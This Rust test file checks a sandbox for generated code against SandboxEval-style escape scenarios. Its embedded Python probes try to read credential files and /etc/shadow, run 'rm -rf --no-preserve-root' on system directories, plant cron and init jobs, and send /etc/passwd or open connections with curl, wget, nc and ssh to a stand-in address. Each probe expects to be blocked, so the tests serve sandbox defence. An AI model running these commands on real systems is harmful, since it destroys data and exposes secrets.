//! What SandboxEval (arXiv 2504.00018) asks of a place that runs generated code, as far as no other case asks it.
//!
//! The paper has 51 scenarios in four groups. Its programs could not be had; these are our own, and so are their names.
//! [`replays`](super::replays) counts them all.

use std::io::Read as _;
use std::net::{TcpListener, UdpSocket};
use std::path::PathBuf;
use std::time::Duration;

use vetrun::sandbox::{Ended, Sandbox, Stop};

use super::Case;
use super::Expect::Says;
use super::cases::same;
use super::{ends, python, run, says, text};

/// The programs that need nothing but a sandbox.
pub(super) const SCENARIOS: &[Case] = cases! {
    // What it may know.
    "disks of the host", r"
disks = {line.split()[0] for line in open('/proc/self/mounts')} | {'/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/loop0'}
tries([(disk, lambda disk=disk: os.open(disk, os.O_RDONLY)) for disk in sorted(disks) if disk.startswith('/dev/')])", same,
        Says("");
    "logs of the system", r"
def read(path):
    def attempt():
        if os.path.isdir(path): found = os.listdir(path)
        else: found = open(path, 'rb').read(1)
        if not found: raise OSError
    return attempt
tries([(path, read(path)) for path in ('/var/log/syslog', '/var/log/messages', '/var/log/auth.log', '/var/log/secure',
    '/var/log/kern.log', '/var/log/audit', '/var/log/journal', '/run/log/journal', '/var/log/wtmp', '/var/run/utmp')])", same,
        Says("");
    "histories and settings of users", r"
import glob
names = ('.bash_history', '.python_history', '.node_repl_history', '.viminfo', '.gitconfig', '.git-credentials', '.netrc',
         '.npmrc', '.pypirc', '.env', '.cargo/credentials.toml', '.bashrc', '.profile')
for path in [path for home in ('/root', '/home/*') for name in names for path in glob.glob(f'{home}/{name}')]:
    try: open(path, 'rb').read(1); print(path)
    except OSError: pass", same, Says("");

    // What it may do to files.
    "everything is deleted", r"
import shutil, subprocess
before = len(os.listdir('/usr/bin'))
subprocess.run(['rm', '-rf', '--no-preserve-root', '/bin', '/etc', '/usr/bin', '/usr/sbin', '/lib64', '/work'],
               stderr=subprocess.DEVNULL)
shutil.rmtree(os.path.join(os.path.dirname(os.__file__), 'json'), ignore_errors=True)
import json
print(len(os.listdir('/usr/bin')) == before, os.listdir('/work'), open('/etc/passwd').read() != '', json.loads('1'))", same,
        Says("True ['input.txt'] True 1");
    "files of the system get other names", r"
def rename(old, new):
    def attempt(): os.rename(old, new)
    return attempt
tries([(f'{old} {new}', rename(old, new)) for old, new in (('/usr/bin/env', '/usr/bin/x'), ('/usr/bin/env', '/tmp/x'),
    ('/etc/passwd', '/etc/x'), ('/etc/passwd', '/out/x'), ('/usr', '/tmp/usr'), ('/bin', '/x'), ('/work', '/tmp/work'),
    ('/tmp', '/x'), ('/out', '/tmp/out'))])", same, Says("");
    "rights of files of the system", r"
paths = ('/', '/etc', '/etc/passwd', '/usr/bin/env', '/work', '/work/input.txt', sys.executable)
tries([(f'{path} {name}', lambda path=path, change=change: change(path)) for path in paths for name, change in (
    ('mode', lambda path: os.chmod(path, 0o777)), ('times', lambda path: os.utime(path, (0, 0))),
    ('attribute', lambda path: os.setxattr(path, 'user.x', b'x')))])", same, Says("");
    "owners of files", r"
open('/tmp/x', 'w').close()
tries([('to root', lambda: os.chown('/tmp/x', 0, 0)), ('to the program', lambda: os.chown('/etc/passwd', os.getuid(), -1)),
       ('the input', lambda: os.chown('/work/input.txt', os.getuid(), os.getgid())), ('to a group', lambda: os.chown('/tmp/x', -1, 0))])",
        same, Says("");
    "a hard link to a file of the system", r"
def link(source, target):
    def attempt(): os.link(source, target)
    return attempt
tries([(f'{source} {target}', link(source, target)) for target in ('/out/x', '/tmp/x', '/dev/shm/x')
       for source in ('/etc/passwd', sys.executable, '/work/input.txt', '/proc/self/exe')])", same, Says("");

    // Whom it may speak to.
    "ports of this machine", r"
import socket
def answers(port):
    with socket.socket() as s:
        s.settimeout(0.5)
        return s.connect_ex(('127.0.0.1', port)) == 0
own = socket.create_server(('127.0.0.1', 0))
print(answers(own.getsockname()[1]), [port for port in (*range(1, 1025), 2375, 2376, 3128, 3306, 5000, 5432, 5758, 6379, 6443,
    8000, 8080, 8443, 9000, 9200, 10250, 11211, 27017) if answers(port)])", same, Says("True []");
    "a letter", r"
import smtplib
def send(host):
    def attempt(): smtplib.SMTP(host, 25, timeout=2).sendmail('a@example.com', ['b@example.com'], 'x')
    return attempt
tries([(host, send(host)) for host in ('127.0.0.1', '192.0.2.25')])", same, Says("");
    "a package from an index", r"
import subprocess
pip = [sys.executable, '-m', 'pip']
options = ['--no-deps', '--retries', '0', '--timeout', '2', '-d', '/tmp', 'six']
print(subprocess.run([*pip, 'download', *options], capture_output=True).returncode == 0,
      [name for name in os.listdir('/tmp') if name.endswith(('.whl', '.gz'))])", |job| job.host_packages = true,
        Says("False []");
    "programs that fetch", r"
import subprocess
commands = ('curl -s -m 2 http://192.0.2.1/', 'wget -q -T 2 -t 1 -O - http://192.0.2.1/', 'git ls-remote http://192.0.2.1/x.git',
    'ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no x@192.0.2.1 true', 'ping -c 1 -W 1 192.0.2.1',
    'nc -w 2 192.0.2.1 80', 'openssl s_client -connect 192.0.2.1:443')
def fetch(command):
    def attempt():
        if subprocess.run(command.split(), stdin=subprocess.DEVNULL, capture_output=True).returncode: raise OSError
    return attempt
tries([(command, fetch(command)) for command in commands])", same, Says("");

    // What else it may do.
    "a shell is nobody", r"
import subprocess
script = '''id -u; cat /etc/shadow; echo x > /etc/x && echo etc; echo x > /usr/x && echo usr; echo x > /proc/sysrq-trigger && echo sysrq
mount -t tmpfs x /mnt && echo mount; sudo -n id -u; su -c 'id -u'; chroot / id -u; unshare -U id -u; echo end'''
said = subprocess.run(['sh', '-c', script], stdin=subprocess.DEVNULL, capture_output=True, text=True).stdout.split()
print(said[0] != '0', said[1:])", same, Says("True ['end']");
    "work for later", r"
import subprocess
def command(*words):
    def attempt():
        if subprocess.run(words, input=b'* * * * * true\n', capture_output=True).returncode: raise OSError
    return attempt
def write(path):
    def attempt(): open(path, 'w').write('x')
    return attempt
tries([('crontab', command('crontab', '-')), ('at', command('at', 'now')), ('batch', command('batch')),
       ('systemd', command('systemd-run', 'true'))] + [(path, write(path)) for path in ('/var/spool/cron/crontabs/root',
    '/etc/cron.daily/x', '/etc/init.d/x', '/etc/profile.d/x.sh', '/etc/xdg/autostart/x.desktop', '/usr/local/bin/ls')])", same,
        Says("");
};

/// The scenarios that need something on the outside.
pub(super) fn around(sandbox: &dyn Sandbox) {
    marks_of_the_host_are_hidden(sandbox);
    files_of_the_caller_are_absent(sandbox);
    nothing_arrives_at_the_host(sandbox);
    nobody_outside_reaches_a_listener(sandbox);
}

/// Files that tell one machine from every other.
const MARKS: [&str; 7] = [
    "/proc/sys/kernel/hostname",
    "/etc/hostname",
    "/etc/machine-id",
    "/var/lib/dbus/machine-id",
    "/sys/class/dmi/id/product_uuid",
    "/sys/class/dmi/id/product_serial",
    "/etc/ssh/ssh_host_ed25519_key.pub",
];

/// Reads the marks on both sides; no line of those outside may be said inside.
pub(super) fn marks_of_the_host_are_hidden(sandbox: &dyn Sandbox) {
    let outside: Vec<String> = MARKS.iter().filter_map(|path| std::fs::read_to_string(path).ok()).collect();
    let outside: Vec<&str> = outside.iter().map(|text| text.trim()).filter(|text| !text.is_empty()).collect();
    assert!(!outside.is_empty(), "a host has a name");
    let code = format!(
        r"
import socket
print(os.uname().nodename); print(socket.gethostname())
for path in {MARKS:?}:
    try: print(open(path).read().strip())
    except OSError: pass"
    );
    let outcome = run(sandbox, &python(&code));
    assert_eq!(ends(&outcome, Ended::Exited(0)), Ok(()));
    let said = text(&outcome);
    assert!(said.lines().count() >= 2, "{said}");
    for mark in outside {
        assert!(said.lines().all(|line| line != mark) && !said.contains(&format!("{mark}\n")), "{mark} is in {said}");
    }
}

/// Puts a file into every folder that somebody who calls vetrun may keep things in, and looks for it.
pub(super) fn files_of_the_caller_are_absent(sandbox: &dyn Sandbox) {
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let places = [std::env::temp_dir(), "/var/tmp".into(), "/dev/shm".into(), env!("CARGO_TARGET_TMPDIR").into()];
    let planted: Vec<tempfile::NamedTempFile> = (places.into_iter().chain(home))
        .filter_map(|place| {
            let file = tempfile::Builder::new().prefix("kept-by-the-caller-").tempfile_in(place).ok()?;
            std::fs::write(file.path(), "secret").ok()?;
            std::fs::set_permissions(file.path(), std::os::unix::fs::PermissionsExt::from_mode(0o644)).ok()?;
            Some(file)
        })
        .collect();
    assert!(planted.len() >= 2, "{planted:?}");
    let paths: Vec<_> = planted.iter().map(|file| file.path().to_str().unwrap()).collect();
    let (manifest, binary) = (concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.toml"), env!("CARGO_BIN_EXE_vetrun"));
    let code = format!(
        r"
tries([(path, lambda path=path: open(path, 'rb')) for path in {paths:?} + ['{manifest}', '{binary}']])
for folder, folders, files in os.walk('/'):
    folders[:] = [name for name in folders if folder.count('/') < 3 and os.path.join(folder, name) != '/proc']
    for name in files:
        if name.startswith('kept-by-the-caller'): print(folder, name)
for level in ('.', '..', '/work', '/out', '/'):
    if os.path.exists(os.path.join(level, '.git')): print(level)"
    );
    assert_eq!(says(&run(sandbox, &python(&code)), ""), Ok(()));
}

/// A page is asked for, a file posted, packets sent, to every address that this machine has; nothing may come.
pub(super) fn nothing_arrives_at_the_host(sandbox: &dyn Sandbox) {
    let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind(("0.0.0.0", port)).unwrap();
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    let mut addresses = vec!["127.0.0.1".to_owned()];
    // A datagram socket that is connected has the address from which this machine would send; nothing is sent.
    let outward = UdpSocket::bind("0.0.0.0:0").unwrap();
    if outward.connect("192.0.2.1:9").is_ok() {
        addresses.push(outward.local_addr().unwrap().ip().to_string());
    }
    let code = format!(
        r"
import socket, urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
def get(host): opener.open(f'http://{{host}}:{port}/page', timeout=2)
def post(host): opener.open(f'http://{{host}}:{port}/', open('/etc/passwd', 'rb').read(), timeout=2)
def packet(host): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', (host, {port}))
attempts = [(f'{{name}} {{host}}', lambda host=host, attempt=attempt: attempt(host)) for host in {addresses:?}
            for name, attempt in (('get', get), ('post', post))]
tries(attempts)
for host in {addresses:?}:
    try: packet(host)
    except OSError: pass"
    );
    let outcome = run(sandbox, &python(&code));
    assert_eq!(says(&outcome, ""), Ok(()));
    assert!(tcp.accept().is_err(), "a connection arrived");
    assert!(udp.recv(&mut [0; 16]).is_err(), "a packet arrived");
    // That they would have been seen.
    UdpSocket::bind("0.0.0.0:0").unwrap().send_to(b"control", ("127.0.0.1", port)).unwrap();
    let _connection = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    super::native::eventually("nothing is seen at all", Duration::from_secs(5), || tcp.accept().is_ok());
    super::native::eventually("nothing is seen at all", Duration::from_secs(5), || udp.recv(&mut [0; 16]).is_ok());
}

/// A program that listens on every address, and somebody outside who calls all the while.
pub(super) fn nobody_outside_reaches_a_listener(sandbox: &dyn Sandbox) {
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let code = format!(
        r"
import socket
s = socket.socket(); s.bind(('0.0.0.0', {port})); s.listen(); s.settimeout(1.5)
# It can be called from inside.
c = socket.create_connection(('127.0.0.1', {port})); s.accept()[0].sendall(b'inside'); print(c.recv(10).decode())
try: s.accept()[0].sendall(b'reached'); print('reached')
except TimeoutError: pass"
    );
    let job = python(&code);
    std::thread::scope(|scope| {
        let running = scope.spawn(|| sandbox.run(&job, &Stop::default()).unwrap());
        while !running.is_finished() {
            // Another program of this machine may have taken the number in the meantime; what counts is what is said.
            if let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", port)) {
                let mut said = String::new();
                let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
                let _ = stream.read_to_string(&mut said);
                assert_ne!(said, "reached");
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        assert_eq!(says(&running.join().unwrap(), "inside"), Ok(()));
    });
}
